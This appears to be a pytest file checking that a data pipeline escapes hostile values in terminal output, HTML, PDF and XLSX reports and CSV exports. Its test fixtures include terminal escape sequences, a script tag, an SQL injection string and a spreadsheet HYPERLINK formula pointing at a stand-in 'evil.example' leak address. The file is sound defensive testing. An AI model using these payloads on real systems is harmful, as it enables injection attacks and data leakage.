"""Issue 17, item 4: what the data holds is shown, never obeyed — by the terminal, the
report (HTML, PDF, XLSX) or a spreadsheet opening an export."""

from __future__ import annotations

import re
from datetime import date
from decimal import Decimal

import openpyxl
import polars as pl
import pytest

from pipelines.cli import main as reab
from pipelines.report import write_report
from pipelines.report.model import Column, Report, Section, Table
from pipelines.report.render_html import render_html
from pipelines.report.render_pdf import render_pdf
from pipelines.report.render_xlsx import render_xlsx
from pipelines.safe_text import for_spreadsheet, for_terminal, spreadsheet_safe
from pipelines.warehouse import connect
from tests.factories import household, person, write_csv

CLEAR_SCREEN = "\x1b[2J"
SCRIPT = "<script>alert(1)</script>"
QUOTE = "x'; DROP TABLE quarantine; --"
FORMULA = '=HYPERLINK("http://evil.example/?leak","click")'


def _no_controls(text: str) -> bool:
    return not any(
        (ord(c) < 0x20 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F or c == "\u202e" for c in text
    )


# --- 4a: the terminal -----------------------------------------------------------------


def test_for_terminal_shows_control_characters_escaped():
    line = f"a{CLEAR_SCREEN}b\r\x07\x9b31m\u202eevil\ttab\nnext € 1\u202f234"
    shown = for_terminal(line)
    assert shown == "a\\x1b[2Jb\\r\\x07\\x9b31m\\u202eevil\ttab\nnext € 1\u202f234"
    assert _no_controls(shown)
    assert for_terminal("plain → text × 3 …") == "plain → text × 3 …"


def test_the_cli_prints_a_hostile_file_name_and_stored_value_escaped(tmp_path, capsys):
    folder = tmp_path / "in"
    folder.mkdir()
    hostile = f"bad{CLEAR_SCREEN}\x1b]0;owned\x07.csv"
    bad_age = person(dossier_id="D0009", person_id="P0090", age_at_registration=f"1{CLEAR_SCREEN}")
    write_csv(folder / hostile, [person(), bad_age])
    db = tmp_path / "wh.duckdb"
    reab(["ingest", str(folder), "--db", str(db)])
    with connect(db) as con:  # a reason stored as it is (whatever the reader cleans up)
        con.execute(
            "INSERT INTO quarantine SELECT file_id, file_name, 99, ?, '{}' FROM ingested_files",
            [f"age_at_registration: '{CLEAR_SCREEN}\x9b2J\u202e' is not a whole number"],
        )
    reab(["quarantine", "--db", str(db)])
    out = capsys.readouterr().out
    assert _no_controls(out), repr(out)
    assert "bad\\x1b[2J\\x1b]0;owned\\x07.csv" in out  # the name, shown
    assert "'\\x1b[2J\\x9b2J\\u202e' is not a whole number" in out  # the stored reason


# --- 4b: values reach the report literally --------------------------------------------


def _hostile_report() -> Report:
    table = Table(
        "hostile",
        f"Reasons {SCRIPT}",
        "hostile",
        [
            Column("rule", "Rule"),
            Column("rows", "Rows", "count"),
            Column("amount", "Amount", "eur"),
        ],
        [
            (SCRIPT, 1, Decimal("-12.50")),
            (QUOTE, 2, Decimal("3.00")),
            (FORMULA, 3, Decimal("0")),
            ("-2+3", -4, Decimal("-0.01")),
            ("@SUM(A1:A9)", 5, None),
            ("**not bold** [link](http://x)", 6, None),
        ],
        note=f"note {SCRIPT}",
    )
    return Report(
        date(2026, 3, 1),
        "en",
        "Title",
        f"from {QUOTE}",
        [("Against plan", "+€ 1,234 (+1.2 %)"), ("Formula fact", FORMULA)],
        [Section("quality", "Quality", f"intro {SCRIPT}", [table])],
        "footnote",
    )


def test_html_escapes_stored_values():
    html = render_html(_hostile_report())
    assert SCRIPT not in html and "<script" not in html.lower()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "x&#x27;; DROP TABLE quarantine; --" in html


def test_pdf_shows_stored_values_literally():
    import io

    from pypdf import PdfReader

    reader = PdfReader(io.BytesIO(render_pdf(_hostile_report())))
    text = " ".join(" ".join(page.extract_text().split()) for page in reader.pages)
    for value in (SCRIPT, QUOTE, "**not bold** [link](http://x)", "@SUM(A1:A9)", "-2+3"):
        assert value in text, (value, text)


def _own_sum(formula: str) -> bool:
    """A total the workbook writes itself: ``=SUM(<column><row>:<column><row>)``."""
    return re.fullmatch(r"=SUM\([A-Z]+[0-9]+:[A-Z]+[0-9]+\)", formula) is not None


def test_xlsx_text_is_never_a_formula_and_numbers_stay_numbers(tmp_path):
    path = tmp_path / "r.xlsx"
    path.write_bytes(render_xlsx(_hostile_report()))
    book = openpyxl.load_workbook(path)
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    # no formula but the workbook's own totals (SUM over the rows above)
    assert not [c.coordinate for c in cells if c.data_type == "f" and not _own_sum(c.value)]
    assert not [c.coordinate for c in cells if c.hyperlink]  # nor a link
    rows = [tuple(c.value for c in row) for row in book["hostile"].iter_rows(min_row=2, max_row=7)]
    assert [r[0] for r in rows] == [
        SCRIPT,
        QUOTE,
        "'" + FORMULA,
        "'-2+3",
        "'@SUM(A1:A9)",
        "**not bold** [link](http://x)",
    ]
    assert [r[1] for r in rows] == [1, 2, 3, -4, 5, 6]  # numbers, the negative one too
    assert rows[0][2] == -12.5 and rows[3][2] == -0.01
    facts = {row[0].value: row[1].value for row in book.worksheets[0].iter_rows() if row[0].value}
    assert facts["Formula fact"] == "'" + FORMULA  # text, and escaped like any text cell


def test_a_report_from_a_warehouse_with_hostile_quarantine_reasons(tmp_path):
    """End to end: reasons stored in the quarantine reach the quality tables as text."""
    from tests.pipelines.test_report import crafted_warehouse

    db = tmp_path / "crafted.duckdb"
    crafted_warehouse(db)
    reasons = [SCRIPT, FORMULA, "-1+1", "@cmd", QUOTE]
    with connect(db) as con:
        con.execute(
            "INSERT INTO ingested_files (file_id, file_name, content_hash, rows_read, "
            "rows_accepted, rows_quarantined, rows_new, rows_superseding, status) "
            "VALUES (900, 'h.csv', 'h', ?, 0, ?, 0, 0, 'ingested_with_quarantine')",
            [len(reasons), len(reasons)],
        )
        for row, reason in enumerate(reasons, 1):
            con.execute("INSERT INTO quarantine VALUES (900, 'h.csv', ?, ?, '{}')", [row, reason])
    with connect(db, read_only=True) as con:
        (files,) = write_report(con, tmp_path / "out", month=date(2026, 3, 1), languages=["en"])
    html = files.html.read_text(encoding="utf-8")
    assert "<script" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    book = openpyxl.load_workbook(files.xlsx)
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f" and not _own_sum(c.value)]
    from pipelines.report.render_xlsx import sheet_names

    sheet = book[sheet_names(files.report)["quarantine"]]
    rules = {row[0].value for row in sheet.iter_rows(min_row=2)}
    # the table shows the rule: a reason up to its first ":", each part of "a; b"
    expected = {
        SCRIPT,
        "'" + FORMULA.split(":")[0],
        "'-1+1",
        "'@cmd",
        "x'",
        "DROP TABLE quarantine",
    }
    assert expected <= rules


# --- 4c: exports against formula injection --------------------------------------------


def test_for_spreadsheet_prefixes_formula_starts_only():
    for text in ("=1+2", "+1", "-1", "@x", "\tx", "\rx"):
        assert for_spreadsheet(text) == "'" + text
    for text in ("1-2", "a=b", "", "'=already", "€ -5"):
        assert for_spreadsheet(text) == text


def test_spreadsheet_safe_leaves_numbers_numbers(tmp_path):
    frame = pl.DataFrame(
        {
            "text": ["=1+2", "-5", "ok", None],
            "amount": [-12.5, 3.0, -0.01, None],
            "money": pl.Series(
                [Decimal("-1.10"), Decimal("2"), None, None], dtype=pl.Decimal(12, 2)
            ),
            "n": [-1, 2, 3, 4],
        }
    )
    safe = spreadsheet_safe(frame)
    assert safe.schema == frame.schema
    assert safe["text"].to_list() == ["'=1+2", "'-5", "ok", None]
    assert safe.drop("text").equals(frame.drop("text"))
    path = tmp_path / "x.csv"
    safe.write_csv(path)
    lines = path.read_text().splitlines()
    assert lines[1] == "'=1+2,-12.5,-1.10,-1"


def test_entitlements_csv_neutralises_formulas(tmp_path, capsys):
    rows = household()  # the principal P0001 and two annexed to it
    rows[1]["person_id"] = "-P2"
    rows[2]["person_id"] = FORMULA
    for row in rows:
        row["dossier_id"] = "@D1"
    path = write_csv(tmp_path / "extract.csv", rows)
    out = tmp_path / "ent.csv"
    code = reab(
        [
            "entitlements",
            "--table",
            "2026",
            str(path),
            "--output",
            str(out),
            "--db",
            str(tmp_path / "none.duckdb"),
        ]
    )
    assert code == 0, capsys.readouterr().out
    written = pl.read_csv(out, infer_schema=False)
    assert written.height == len(rows)
    assert "'" + FORMULA in written["person_id"].to_list()
    assert "'-P2" in written["person_id"].to_list()
    assert set(written["dossier_id"]) == {"'@D1"}
    assert not list(tmp_path.glob("*.partial"))
    typed = pl.read_csv(out)  # the amounts stay numbers
    amounts = [c for c, t in typed.schema.items() if t.is_numeric()]
    assert amounts and all(not typed[c].cast(pl.String).str.starts_with("'").any() for c in amounts)


@pytest.mark.parametrize("text", [FORMULA, CLEAR_SCREEN, "-1"])
def test_made_safe_twice_is_made_safe_once(text):
    assert for_terminal(for_terminal(text)) == for_terminal(text)
    assert for_spreadsheet(for_spreadsheet(text)) == for_spreadsheet(text)
